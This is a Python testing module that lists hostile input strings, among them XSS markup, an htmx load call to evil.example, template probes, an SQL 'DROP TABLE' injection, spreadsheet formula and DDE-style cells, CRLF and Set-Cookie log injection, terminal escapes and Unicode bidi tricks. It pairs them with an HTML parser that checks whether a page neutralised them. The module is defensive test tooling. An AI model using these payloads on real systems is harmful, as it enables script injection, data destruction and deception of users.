"""Hostile words, and a reader that says what became of them on a page.

The words are what attackers and accidents send: markup, templates, SQL, text that turns lines around or hides, formulas
for spreadsheets, line ends and escapes for logs. `Seen` reads a page as a browser does and keeps what a payload could
have changed: its elements, their attributes, and where text stands.
"""

from __future__ import annotations

import re
import unicodedata
from dataclasses import dataclass, field
from html.parser import HTMLParser
from types import MappingProxyType

from line.core.cells import safe
from line.core.shown import shown

NAME = "Quillfeather"
"""In every payload, so that it can be found: on the pages, and never in a log."""

PAYLOADS = MappingProxyType(
    {
        "script": f"<script>alert('{NAME}')</script>",
        "image": f'"><img src=x onerror=alert(1) alt="{NAME}">',
        "svg": f"</textarea></title><svg/onload=alert(1)>{NAME}",
        "attribute": f"{NAME}' onmouseover='alert(1)' style='x:y' autofocus x='",
        "address": f"javascript:alert(1)//{NAME} https://evil.example/?a=1&b=2",
        "htmx": f'<div hx-get="https://evil.example/" hx-trigger="load">{NAME}</div>',
        "comment": f"<!--{NAME}--><![CDATA[ x ]]>&lt;b&gt;&amp;#60;i&#62;",
        "template": f"{{{{7*7}}}}${{7*7}}{{% raw %}}#{{7*7}}{{{{config}}}} {NAME}",
        "sql": f"{NAME}'; DROP TABLE callback_requests;-- %_\\",
        "override": f"{NAME} \u202egnp.exe\u202c \u2066isolated\u2069 \u200fmark",
        "right to left": f"مريم {NAME} כהן العربية",
        "zero-width": f"{NAME}\u200b\u2060\ufeff\u00ad\u200d\u200d\u200dx",
        "blank": f"\u3164\u115f\u034f\u2800 {NAME}",
        "combining": "Z" + "\u0310\u0321\u0489" * 12 + f"algo {NAME} 👩\u200d⚕\ufe0f 🇺🇸",
        "formula": f'=HYPERLINK("https://evil.example","{NAME}")',
        "tab": f"\t@{NAME}|' /C calc'!A0",
        "full-width": f"＝{NAME}；＝１＋１",
        "separators": f'-{NAME};=1+1,"=2",\t+x',
        "lines": f"{NAME}\r\nERROR fake line\nSet-Cookie: joi=x\r\n\r\n<b>\u2028next\u2029next\x85next",
        "escapes": f"{NAME}\x1b[31mred\x1b]0;title\x07\x08\x7f\x9b2J",
        "long word": NAME + "W" * 300,
        "long": f"{NAME} " + "wort über Wörter " * 90,
    }
)

_VOID = frozenset("area base br col embed hr img input link meta source track wbr".split())
_ADDRESSES = (
    "href",
    "src",
    "action",
    "formaction",
    "hx-get",
    "hx-post",
    "hx-target",
    "data-source",
    "poster",
)
_OURS = re.compile(r"[/#.][a-z]|http://127\.0\.0\.1:8000/wallboard/[\w-]{43}$")
_RIGHT_TO_LEFT = re.compile("[\u0590-\u08ff\ufb1d-\ufdff\ufe70-\ufefc]")
_LAST_WORDS = "cannot stand in a text: "
"""Before single letters that end a sentence: there is nothing behind them that could be turned around."""
_UNSEEN = re.compile("[\u034f\u115f\u1160\u2800\u3164\uffa0]|(?:^|[\\s\u200c\u200d])[\u200c\u200d]")


def hidden_in(text: str) -> str:
    """What stands in a text and cannot be seen, or moves or buries what can."""
    kinds = [unicodedata.category(one) for one in text]
    controls = [
        one
        for one, kind in zip(text, kinds, strict=True)
        if kind in ("Cc", "Cf", "Zl", "Zp") and one not in "\n\t\u200c\u200d"
    ]
    accents = "".join("a" if kind in ("Mn", "Me") else " " for kind in kinds)
    return "".join(controls + _UNSEEN.findall(text)) + ("" if "a" * 10 not in accents else "accents")


@dataclass
class Seen(HTMLParser):
    """A page as read: `vocabulary` holds every (element, attribute), `words` the text, `wrong` what must not be."""

    vocabulary: set[tuple[str, str]] = field(default_factory=set)
    words: str = ""
    wrong: list[str] = field(default_factory=list)
    _open: list[tuple[str, bool]] = field(default_factory=list)

    def __post_init__(self) -> None:
        super().__init__(convert_charrefs=True)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.vocabulary |= {(tag, ""), *((tag, name) for name, _ in attrs)}
        for name, value in attrs:
            if name in _ADDRESSES and not _OURS.match(value or ""):
                self.wrong.append(f"{tag} {name}={value!r}")
            if name not in ("value", "name") and hidden_in(value or ""):
                self.wrong.append(f"hidden in {tag} {name}={value!a}")
        if tag not in _VOID:
            apart = tag == "bdi" or ("dir", "auto") in attrs or ("class", "visually-hidden") in attrs
            # A field shows what was typed as it was typed.
            self._open.append((tag, apart or tag in ("textarea", "button")))

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)
        self.handle_endtag(tag)

    def handle_endtag(self, tag: str) -> None:
        if tag in _VOID:
            return
        if not self._open or self._open[-1][0] != tag:
            self.wrong.append(f"</{tag}> where {[name for name, _ in self._open[-2:]]} is open")
            return
        self._open.pop()

    def handle_comment(self, data: str) -> None:
        self.wrong.append(f"comment {data!r}")

    def unknown_decl(self, data: str) -> None:
        self.wrong.append(f"declaration {data!r}")

    def handle_data(self, data: str) -> None:
        inside = {name for name, _ in self._open}
        if inside & {"script", "style"} and data.strip():
            self.wrong.append(f"inline: {data!r}")
        if "textarea" in inside:
            return
        self.words += data
        if hidden_in(data):
            self.wrong.append(f"hidden in the text {data!a}")
        turns = _RIGHT_TO_LEFT.search(data.partition(_LAST_WORDS)[0])
        if turns and not any(apart for _, apart in self._open):
            self.wrong.append(f"turns its line around: {data!a} in {[name for name, _ in self._open]}")


def read(html: str) -> Seen:
    """The page, read to its end."""
    seen = Seen()
    seen.feed(html)
    seen.close()
    if seen._open:
        seen.wrong.append(f"left open: {[name for name, _ in seen._open]}")
    return seen


def unsafe_cells(table: list[list[str]]) -> list[str]:
    """Cells that a spreadsheet could take for a formula, or in which something hides."""
    return [cell for row in table for cell in row if safe(shown(cell)) != cell]
